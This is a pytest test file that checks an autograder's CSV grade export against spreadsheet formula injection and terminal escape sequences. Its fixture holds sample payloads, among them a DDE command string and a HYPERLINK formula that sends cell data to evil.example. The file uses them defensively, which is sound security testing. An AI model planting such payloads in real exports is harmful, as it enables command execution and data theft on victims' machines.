"""export: no cell that came from people runs as a spreadsheet formula, and a comma in a name shifts no column.

Issue 16's names and e-mails (`=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1+1)`, `=HYPERLINK(...)`),
through the real `export` into both CSV files, read back as a spreadsheet would split them.
"""

from __future__ import annotations

import csv
import datetime as dt
import warnings

import pytest

from autograder.cohort.export import export
from autograder.cohort.layout import gradebook
from autograder.cohort.untrusted import printable, spreadsheet_safe
from intake_course import MODULE, empty_gradebook, make_course  # noqa: F401

HOSTILE = [  # (id, first_name, last_name, email, lms_user_id)
    ("s1", "=cmd|' /C calc'!A0", "Lee", "s1@example.org", "101"),
    ("s2", "+1+1", "-2+3", "@SUM(1+1)", "102"),
    ("s3", "Ann", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "s3@example.org", "103"),
    ("s4", "Lee, =1+1", "O'Brien", "=1+1@example.org", "=104"),
    ("s5", "\tTab", "\rReturn", "plain@example.org", "105"),
    ("s6", "Zoë", "Smith, Jr.", 'a"b@example.org', "106"),
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def rows(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        body = list(reader)
    assert all(len(row) == len(header) for row in body), f"{path.name}: a row has extra or missing cells"
    return [dict(zip(header, row)) for row in body]


@pytest.fixture
def exported(tmp_path, empty_gradebook):
    course = make_course(tmp_path / "course", empty_gradebook, HOSTILE)
    with gradebook(course) as gb, warnings.catch_warnings():  # one submission: nbgrader's export looks it up
        warnings.simplefilter("ignore")  # nbgrader's own SQLAlchemy session notes
        gb.update_or_create_submission(MODULE, "s2", timestamp=dt.datetime(2030, 1, 10, 9, 0))
    return {path.name: rows(path) for path in export(course)}


@pytest.mark.parametrize("name", ["grades_lms.csv", "grades_nbgrader.csv"])
def test_people_cells_cannot_run_as_formulas(exported, name):
    found = {row["student_id"]: row for row in exported[name]}
    assert sorted(found) == [s[0] for s in HOSTILE], found
    for sid, first, last, email, lms in HOSTILE:
        row = found[sid]
        for column, given in (("first_name", first), ("last_name", last), ("email", email), ("lms_user_id", lms)):
            if column not in row:
                continue
            wanted = "'" + given if given.startswith(TRIGGERS) else given
            assert row[column] == wanted, f"{name} {sid} {column}: {row[column]!r}, expected {wanted!r}"
    for row in exported[name]:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS) or cell.replace(".", "", 1).lstrip("-").isdigit(), (column, cell)


def test_scores_stay_numbers(exported):
    lms = {row["student_id"]: row for row in exported["grades_lms.csv"]}
    assert lms["s1"][MODULE] == "" and lms["s1"]["total"] == "0"
    nbgrader = {row["student_id"]: row for row in exported["grades_nbgrader.csv"]}
    assert float(nbgrader["s2"]["score"]) == 0.0 and nbgrader["s2"]["timestamp"] == "2030-01-10 09:00:00"
    assert nbgrader["s1"]["timestamp"] == ""


@pytest.mark.parametrize("cell, safe", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-1.5", "-1.5"), ("-1e3", "-1e3"), ("-", "'-"), ("@x", "'@x"),
    ("\t1", "'\t1"), ("\r1", "'\r1"), ("ok", "ok"), ("", ""), (3.0, 3.0),
])
def test_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


@pytest.mark.parametrize("text, shown", [
    ("a\x1b[2Jb", "ab"), ("a\x1b[1;31mred\x1b[0m", "ared"), ("t\x1b]0;title\x07x", "tx"), ("a\nb\rc", "a?b?c"),
    ("left\u202eright", "left?right"), ("Zoë", "Zoë"), ("a\x9b2Jb", "ab"),
])
def test_printable(text, shown):
    assert printable(text) == shown
